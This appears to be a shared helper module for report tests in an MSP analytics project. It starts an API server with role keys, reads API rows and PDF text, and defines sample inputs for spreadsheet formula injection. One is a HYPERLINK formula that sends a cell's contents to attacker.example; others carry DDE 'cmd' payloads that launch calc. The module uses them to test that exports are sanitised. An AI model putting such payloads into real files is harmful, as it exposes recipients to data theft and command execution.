"""What the report fixtures and tests share: the served API, the formula-like texts, and
reading the API's rows and a PDF's text lines."""

from __future__ import annotations

import io
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import httpx
from PIL import Image
from pypdf import PdfReader
from serving import served_api

from moatmetrics.appdb.audit import Actor
from moatmetrics.appdb.db import session_scope
from moatmetrics.appdb.keys import ROLES, create_key
from moatmetrics.settings import Settings

# Text a spreadsheet would run as a formula if it were written as one.
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Acme")'
HOSTILE_EXPLANATION = "+cmd|' /C calc'!A0 revenue rose"
HOSTILE_VENDOR = "-2+3"
HOSTILE_PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"
# The MSP's name on the client's QBR (MOATMETRICS_COMPANY_NAME of `branded_api`).
MSP_NAME = "Northwind Managed IT"


@dataclass
class Api:
    """A running API server: its URL, one key per role, the snapshot it serves."""

    url: str
    keys: dict[str, str]
    snapshot_id: str

    def client(self, role: str | None = "viewer") -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.keys[role]}"} if role else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=60)


def money(value: Decimal | None) -> str:
    if value is None:
        return "n/a"
    cents = Decimal(value).quantize(Decimal("0.01"), ROUND_HALF_UP)
    return f"{abs(cents) if cents == 0 else cents:,}"


def api_rows(http: httpx.Client, mart: str, **params: Any) -> list[dict[str, Any]]:
    response = http.get(f"/api/v1/marts/{mart}", params={**params, "limit": 10_000})
    assert response.status_code == 200, response.text
    body = response.json(parse_float=Decimal)  # exactly the digits the API sent
    assert body["total"] == len(body["rows"])
    return body["rows"]


def pdf_lines(content: bytes) -> list[str]:
    reader = PdfReader(io.BytesIO(content))
    return [line.strip() for page in reader.pages for line in page.extract_text().splitlines()]


def run_at(lines: Sequence[str], cells: Sequence[str], start: int = 0) -> int:
    """Index where `cells` appear as consecutive lines (one table row), else fail."""
    for index in range(start, len(lines) - len(cells) + 1):
        if list(lines[index : index + len(cells)]) == list(cells):
            return index
    raise AssertionError(f"row {cells} not in the PDF text")


def serve(
    settings: Settings, snapshot_id: str, log: Path, env: dict[str, str] | None = None
) -> Iterator[Api]:
    """`uvicorn api.main:app` on a home (in PostgreSQL mode when `settings` name a warehouse
    URL), one key per role, `env` added to its environment; stopped when the generator is
    closed."""
    keys = {}
    with session_scope(settings, write=True) as session:
        for role in ROLES:
            # One server per log folder; several may serve one home (key names are unique).
            name = f"reports-{log.parent.name}-{role}"
            keys[role] = create_key(session, Actor("tests"), name, role)[1]
    if settings.warehouse_url:  # PostgreSQL mode: the server reads the snapshots there
        env = {"MOATMETRICS_WAREHOUSE_URL": settings.warehouse_url, **(env or {})}
    with served_api(settings.home, log, MOATMETRICS_RUN_ON_UPLOAD="0", **(env or {})) as url:
        yield Api(url, keys, snapshot_id)


def logo_png(path: Path, size: tuple[int, int] = (240, 80)) -> Path:
    """A real PNG logo (Pillow, as reportlab reads it) of a known pixel size."""
    Image.new("RGB", size, (31, 58, 95)).save(path, "PNG")
    return path
